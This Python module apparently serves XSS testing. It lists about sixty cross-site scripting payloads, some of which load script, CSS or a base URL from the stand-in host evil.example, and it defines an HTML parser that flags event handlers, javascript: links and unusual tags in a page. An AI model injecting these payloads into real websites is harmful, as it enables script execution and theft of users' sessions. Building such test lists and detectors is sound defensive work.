"""Texts that would run as a script, if a page showed them as markup anywhere, and how to notice."""

import re
from html.parser import HTMLParser

PAYLOADS = (
    "<script>xss(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "</script><script>xss(1)</script>",
    "<scr<script>ipt>xss(1)</scr</script>ipt>",
    "<script/xss src=data:,xss(1)></script>",
    "<img src=x onerror=xss(1)>",
    '"><img src=x onerror=xss(1)>',
    "'><img src=x onerror=xss(1)>",
    "<img src=x onerror=xss(1)//",
    "<img/src=`x`/onerror=xss(1)>",
    "<IMG SRC=&#106;avascript:xss(1)>",
    "<img src='java&#x0A;script:xss(1)'>",
    "<svg onload=xss(1)>",
    "<svg/onload=xss(1)//",
    "<svg><script>xss(1)</script></svg>",
    "<svg><animate onbegin=xss(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:xss(1)><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=xss(1)>",
    "<math href=javascript:xss(1)>x</math>",
    "<iframe src=javascript:xss(1)>",
    "<iframe srcdoc='<script>xss(1)</script>'>",
    "<object data=javascript:xss(1)>",
    "<embed src=data:text/html,xss>",
    "<base href=//evil.example/xss/>",
    "<meta http-equiv=refresh content='0;url=javascript:xss(1)'>",
    "<link rel=stylesheet href=//evil.example/xss.css>",
    "<style>@import '//evil.example/xss.css';</style>",
    "<body onload=xss(1)>",
    "<details open ontoggle=xss(1)>",
    "<input autofocus onfocus=xss(1)>",
    "<select autofocus onfocus=xss(1)>",
    "<textarea autofocus onfocus=xss(1)>",
    "</textarea><img src=x onerror=xss(1)>",
    "</title><img src=x onerror=xss(1)>",
    "</option></select><img src=x onerror=xss(1)>",
    "<video><source onerror=xss(1)>",
    "<audio src=x onerror=xss(1)>",
    "<marquee onstart=xss(1)>",
    "<form action=javascript:xss(1)><button>x</button>",
    "<button formaction=javascript:xss(1)>x</button>",
    "<a href=javascript:xss(1)>x</a>",
    "<a href=' javascript:xss(1)'>x</a>",
    '" onmouseover="xss(1)',
    "' onmouseover='xss(1)",
    "` onmouseover=xss(1) `",
    '" autofocus onfocus=xss(1) x="',
    "x style=behavior:url(xss.htc)",
    "[x](javascript:xss(1))",
    "[x](data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=)",
    "![x](javascript:xss(1))",
    "<javascript:xss(1)>",
    "[x]: javascript:xss(1)\n[x]",
    "--><img src=x onerror=xss(1)><!--",
    "]]><img src=x onerror=xss(1)>",
    "{{ constructor.constructor('xss(1)')() }}{% load xss %}",
    "${xss(1)}#{xss(1)}<%= xss(1) %>",
    "\\u003cimg src=x onerror=xss(1)\\u003e",
    "%3Cimg src=x onerror=xss(1)%3E",
    "\uff1cimg src=x onerror=xss(1)\uff1e",
    "<img src=x\u202eonerror=xss(1)>",
    "javascript:xss(1)",
)
LEADS = {"href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcdoc", "content"}
STRANGE = {"object", "embed", "base", "math", "marquee", "animate", "audio", "video", "iframe"}


class _Reader(HTMLParser):
    """Notes everything in a page that runs, or leads to where something runs."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.inside = ""

    def handle_starttag(self, tag, attrs):
        self.inside = tag
        values = dict(attrs)
        if tag == "script" and not re.match(r"/(static/|admin/jsi18n/$)", values.get("src") or ""):
            self.found.append(f"a script {values}")
        frames_ours = tag == "iframe" and (values.get("src") or "").startswith("/")
        opens_beside = tag == "base" and set(values) == {"target"}
        if "xss" in tag or (tag in STRANGE and not frames_ours and not opens_beside):
            self.found.append(f"<{tag}> {values}")
        for name, value in attrs:
            said = "".join((value or "").split()).lower()
            leads = name in LEADS and said.startswith(("javascript:", "vbscript:", "data:text"))
            if name.startswith("on") or name == "style" or "xss" in name or leads:
                self.found.append(f"<{tag} {name}={value!r}>")

    def handle_data(self, data):
        if self.inside in ("script", "style") and "xss" in data:
            self.found.append(f"inside <{self.inside}>: {data[:80]}")

    def handle_endtag(self, tag):
        self.inside = ""


def running(page: str) -> list[str]:
    """What in a page would run."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader.found
